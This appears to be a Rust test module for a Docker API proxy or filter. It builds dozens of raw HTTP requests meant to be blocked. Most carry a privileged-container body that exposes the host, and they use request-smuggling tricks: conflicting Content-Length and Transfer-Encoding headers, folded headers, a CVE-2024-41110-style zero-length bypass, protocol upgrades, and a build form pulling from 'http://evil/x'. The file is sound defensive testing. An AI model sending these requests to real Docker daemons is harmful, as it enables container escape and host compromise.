//! The protocol itself: bytes that two readers could read in two ways, other protocols, bodies that are not what
//! they seem.

use super::Case;

const SUBJECT: &str = "http";

/// A container that gives away the host, as a body of a request that must not get through.
const EVIL: &str = r#"{"Image":"busybox:test","HostConfig":{"Privileged":true}}"#;

/// Name and bytes; EVIL stands for the body above, SIZE for its length.
#[rustfmt::skip]
const RAW: &[(&str, &str)] = &[
    ("two lengths", "POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: SIZE\r\n\r\nEVIL"),
    ("two equal lengths", "POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nContent-Length: SIZE\r\nContent-Length: SIZE\r\n\r\nEVIL"),
    ("a list of lengths", "POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nContent-Length: SIZE, SIZE\r\n\r\nEVIL"),
    ("a signed length", "POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nContent-Length: +SIZE\r\n\r\nEVIL"),
    ("a negative length", "POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nContent-Length: -1\r\n\r\nEVIL"),
    ("a hexadecimal length", "POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nContent-Length: 0x10\r\n\r\nEVIL"),
    ("length 0 with a body (CVE-2024-41110)", "POST /v1.41/containers/create HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nContent-Length: 0\r\n\r\nEVIL"),
    ("length and chunks", "POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n"),
    ("chunks and length", "POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nContent-Length: 2\r\n\r\n2\r\n{}\r\n0\r\n\r\n"),
    ("chunked, identity", "POST /containers/create HTTP/1.1\r\nHost: d\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n"),
    ("identity", "POST /containers/create HTTP/1.1\r\nHost: d\r\nTransfer-Encoding: identity\r\n\r\n"),
    ("chunked twice", "POST /containers/create HTTP/1.1\r\nHost: d\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
    ("xchunked", "POST /containers/create HTTP/1.1\r\nHost: d\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"),
    ("chunks in HTTP/1.0", "POST /containers/create HTTP/1.0\r\nHost: d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
    ("a folded line", "GET /info HTTP/1.1\r\nHost: d\r\nX: a\r\n b\r\n\r\n"),
    ("a folded length", "POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Length:\r\n SIZE\r\n\r\nEVIL"),
    ("a bare line feed", "GET /info HTTP/1.1\r\nHost: d\nX: y\r\n\r\n"),
    ("a bare carriage return", "GET /info HTTP/1.1\r\nHost: d\rX: y\r\n\r\n"),
    ("a space before the colon", "POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Length : SIZE\r\n\r\nEVIL"),
    ("a header without a colon", "GET /info HTTP/1.1\r\nHost: d\r\nX\r\n\r\n"),
    ("an empty header name", "GET /info HTTP/1.1\r\nHost: d\r\n: x\r\n\r\n"),
    ("two hosts", "GET /info HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n"),
    ("a NUL in a header", "GET /info HTTP/1.1\r\nHost: d\r\nX: \0\r\n\r\n"),
    ("an absolute address", "GET http://docker/info HTTP/1.1\r\nHost: d\r\n\r\n"),
    ("an authority", "CONNECT docker:80 HTTP/1.1\r\nHost: d\r\n\r\n"),
    ("an asterisk", "OPTIONS * HTTP/1.1\r\nHost: d\r\n\r\n"),
    ("OPTIONS", "OPTIONS /info HTTP/1.1\r\nHost: d\r\n\r\n"),
    ("TRACE", "TRACE /info HTTP/1.1\r\nHost: d\r\n\r\n"),
    ("a method in lower case", "get /info HTTP/1.1\r\nHost: d\r\n\r\n"),
    ("two spaces", "GET  /info HTTP/1.1\r\nHost: d\r\n\r\n"),
    ("a tab", "GET\t/info HTTP/1.1\r\nHost: d\r\n\r\n"),
    ("HTTP/1.2", "GET /info HTTP/1.2\r\nHost: d\r\n\r\n"),
    ("HTTP/2.0", "GET /info HTTP/2.0\r\nHost: d\r\n\r\n"),
    ("an HTTP/2 preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    ("an upgrade to h2c", "GET /info HTTP/1.1\r\nHost: d\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n"),
    ("an upgrade to h2c on session", "POST /session HTTP/1.1\r\nHost: d\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"),
    ("an upgrade to h2c on grpc", "POST /grpc HTTP/1.1\r\nHost: d\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"),
    ("a websocket", "GET /containers/mine/attach/ws HTTP/1.1\r\nHost: d\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: x\r\nSec-WebSocket-Version: 13\r\n\r\n"),
    ("a websocket on attach", "POST /containers/mine/attach HTTP/1.1\r\nHost: d\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"),
    ("a compressed body", "POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: SIZE\r\n\r\nEVIL"),
    ("trailers", "POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nTrailer: X\r\n\r\nHEX\r\nEVIL\r\n0\r\nX: y\r\n\r\n"),
    ("chunks with extensions", "POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nHEX;a=b\r\nEVIL\r\n0\r\n\r\n"),
    ("a body that was to wait", "POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nExpect: 100-continue\r\nContent-Length: SIZE\r\n\r\nEVIL"),
    ("an unknown expectation", "POST /containers/create HTTP/1.1\r\nHost: d\r\nExpect: magic\r\nContent-Length: SIZE\r\n\r\nEVIL"),
    ("plain text as JSON", "POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Type: text/plain\r\nContent-Length: SIZE\r\n\r\nEVIL"),
    ("no content type", "POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Length: SIZE\r\n\r\nEVIL"),
    ("two content types", "POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nContent-Type: text/plain\r\nContent-Length: SIZE\r\n\r\nEVIL"),
    ("JSON with a charset", "POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Type: application/json; charset=utf-16\r\nContent-Length: SIZE\r\n\r\nEVIL"),
    ("a method that overrides", "GET /swarm HTTP/1.1\r\nHost: d\r\nX-HTTP-Method-Override: POST\r\n\r\n"),
    ("bytes outside ASCII in the target", "GET /\u{e4} HTTP/1.1\r\nHost: d\r\n\r\n"),
    ("a form that asks for a build", "POST /build HTTP/1.1\r\nHost: d\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 37\r\n\r\nnetworkmode=host&remote=http://evil/x"),
    ("a form that pulls", "POST /images/create HTTP/1.1\r\nHost: d\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 17\r\n\r\nfromImage=foreign"),
    ("a form that prunes", "POST /containers/prune HTTP/1.1\r\nHost: d\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 10\r\n\r\nfilters={}"),
    ("a form that commits", "POST /commit?container=mine HTTP/1.1\r\nHost: d\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 17\r\n\r\ncontainer=foreign"),
    ("a form that tags", "POST /images/busybox:test/tag?repo=x HTTP/1.1\r\nHost: d\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 11\r\n\r\nrepo=alpine"),
    ("a form that renames", "POST /containers/mine/rename?name=x HTTP/1.1\r\nHost: d\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 12\r\n\r\nname=foreign"),
    ("a multipart form", "POST /build HTTP/1.1\r\nHost: d\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 5\r\n\r\n--x--"),
    ("a body where none is expected", "POST /containers/mine/start HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nContent-Length: 19\r\n\r\n{\"Privileged\":true}"),
    ("a body with GET", "GET /info HTTP/1.1\r\nHost: d\r\nContent-Length: 3\r\n\r\nabc"),
];

pub(super) fn cases() -> Vec<Case> {
    let size = EVIL.len().to_string();
    let hex = format!("{:x}", EVIL.len());
    let fill =
        |bytes: &str| bytes.replace("EVIL", EVIL).replace("SIZE", &size).replace("HEX", &hex);
    let mut out: Vec<Case> =
        RAW.iter().map(|(what, bytes)| Case::raw(SUBJECT, what, fill(bytes))).collect();
    let head = format!("GET /info HTTP/1.1\r\nHost: d\r\nX: {}\r\n\r\n", "a".repeat(300 * 1024));
    out.push(Case::raw(SUBJECT, "a head of 300 KiB", head));
    let lines = "X: y\r\n".repeat(200);
    let head = format!("GET /info HTTP/1.1\r\nHost: d\r\n{lines}\r\n");
    out.push(Case::raw(SUBJECT, "200 header lines", head));
    out
}
